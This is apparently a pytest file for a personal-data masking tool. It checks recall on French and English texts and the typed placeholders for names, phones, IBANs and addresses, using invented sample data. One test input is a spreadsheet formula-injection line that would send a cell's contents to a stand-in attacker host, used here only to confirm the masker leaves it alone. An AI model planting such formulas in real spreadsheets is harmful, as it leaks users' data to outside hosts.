"""Recall on sentences that hold personal data and wrong spans on sentences that hold none.

Each set was written after the rules had been frozen for it; recall at first sight .962, .922, .853 (titles apart), .922, .792 (messages chosen to be
hard), .954, .885, .957, .877, .929, .972 and .931, after which the rules learned from it. What is held here is that none of it is lost again.
"""

import re

import pytest
from ruamel.yaml import YAML

from cxkit.evidence.masking import mask, special_categories
from cxkit.paths import resources

SETS = [YAML(typ="safe").load(path.read_text(encoding="utf-8")) for path in sorted((resources() / "tests" / "evidence").glob("personal_texts*.yaml"))]
TEXTS = {key: [text for one in SETS for text in one.get(key, ())] for key in ("fr", "en", "ordinary_fr", "ordinary_en")}


def marked(text: str) -> tuple[str, list[tuple[int, int]]]:
    """The plain text and the ranges of what stands between [[ and ]]."""
    plain, ranges = "", []
    for part in re.split(r"(\[\[.*?\]\])", text):
        if part.startswith("[["):
            ranges.append((len(plain), len(plain) + len(part) - 4))
            plain += part[2:-2]
        else:
            plain += part
    return plain, ranges


def covered(text: str, start: int, end: int, spans) -> bool:
    """True where no letter or digit of the entity is left; a title may stay."""
    left = "".join(sign for place, sign in enumerate(text[start:end], start)
                   if sign.isalnum() and not any(first <= place < last for first, last, _ in spans))
    return left.lower() in ("", "mme", "m", "mrs", "dr", "mmeetm", "mr")


def measured() -> tuple[int, int, list[str], list[str]]:
    found = total = 0
    missed, wrong = [], []
    for language in ("fr", "en"):
        for text in TEXTS[language]:
            plain, ranges = marked(text)
            spans = mask(plain, language).spans
            for start, end in ranges:
                total += 1
                hit = covered(plain, start, end, spans)
                found += hit
                missed += [] if hit else [plain]
            wrong += [plain[a:b] for a, b, _ in spans if not any(a < end and start < b for start, end in ranges)]
        for text in TEXTS[f"ordinary_{language}"]:
            wrong += [f"{text[a:b]} | {text}" for a, b, _ in mask(text, language).spans]
    return found, total, missed, wrong


def test_recall_and_wrong_spans(capsys):
    found, total, missed, wrong = measured()
    ordinary = len(TEXTS["ordinary_fr"] + TEXTS["ordinary_en"])
    with capsys.disabled():
        print(f"\nmasking: recall {found}/{total} = {found / total:.3f}; wrong spans in {ordinary} ordinary texts: {len(wrong)} {wrong}; "
              f"missed: {missed}")
    assert found / total >= 0.97
    assert len(wrong) <= 6 / 500 * ordinary


@pytest.mark.parametrize(("text", "language", "masked"), [
    ("Je m'appelle Jean Dupont, tél. 06 12 34 56 78.", "fr", "Je m'appelle [nom], tél. [téléphone]."),
    ("Mail: jean.dupont@free.fr", "en", "Mail: [e-mail]"),
    ("Mon IBAN FR76 3000 6000 0112 3456 7890 189", "fr", "Mon IBAN [compte bancaire]"),
    ("Commande n° 4589213 perdue", "fr", "Commande n° [référence] perdue"),
    ("+33 6 12 34 56 78", "fr", "[téléphone]"),
    ("prix $10 et $20", "fr", "prix $10 et $20"),
    ("=HYPERLINK(\"https://evil.invalid/?x=\"&A1,\"ok\")", "en", "=HYPERLINK(\"https://evil.invalid/?x=\"&A1,\"ok\")"),
])
def test_placeholders_are_typed_and_in_the_language(text, language, masked):
    assert mask(text, language).text == masked


def test_spans_are_places_in_the_original():
    text = "Merci Julie, écrivez à a@b.fr"
    assert [(text[a:b], kind) for a, b, kind in mask(text, "fr").spans] == [("Julie", "name"), ("a@b.fr", "email")]


def test_special_categories_are_flagged_not_masked():
    text = "Je suis en fauteuil roulant et délégué CGT"
    assert special_categories(text) == ("health", "union")
    assert mask(text, "fr").text == text


@pytest.mark.parametrize(("text", "masked"), [
    # what a surer kind leaves of a name is masked too
    ("Bertrand Lachaume bertrand.lachaume@planted.example", "[nom] [courriel]"),
    ("Contrat AUTO 556 781 02, carte 4978 25XX XXXX 1143", "Contrat [référence], carte [carte]"),
    ("au 06 22 33 quarante quatre 55", "au [téléphone]"),
    ("suivi https://suivi.example.fr/colis?id=6M1234567890123", "suivi https://suivi.example.fr/colis?id=[référence]"),
    ("Grace Mbeki m'a écrit, madame costa aussi", "[nom] m'a écrit, [nom] aussi"),
    ("Nobuhiro du SAV, P. Delcourt et Marie-Jo", "[nom] du SAV, [nom] et [nom]"),
    ("Rendez-vous avec Marine, appel de Rose", "Rendez-vous avec [nom], appel de [nom]"),
    ("Livré au 48.8566, 2.3522 par erreur", "Livré au [adresse] par erreur"),
    ("Pierre au guichet, madame la directrice, monsieur très poli", "[nom] au guichet, madame la directrice, monsieur très poli"),
    ("Robe Camille, matelas Emma, boulangerie Paul", "Robe Camille, matelas Emma, boulangerie Paul"),
])
def test_rules_of_identifiers_and_things(text, masked):
    assert mask(text, "fr").text == masked


@pytest.mark.parametrize("piece", ["Merci Julie, 06 12 34 56 78. ", "madame ", "je m'appelle ", "JULIE ",
                                   "12 rue de la Paix 75002 Paris, ", "commande n° 12 "])
def test_a_text_as_long_as_a_cell_may_be_is_masked_like_a_short_one(piece):
    once, often = mask(piece * 3, "fr"), mask(piece * 600, "fr")
    assert {kind for _, _, kind in often.spans} == {kind for _, _, kind in once.spans}
    assert len(often.text) < len(piece) * 600 + 1
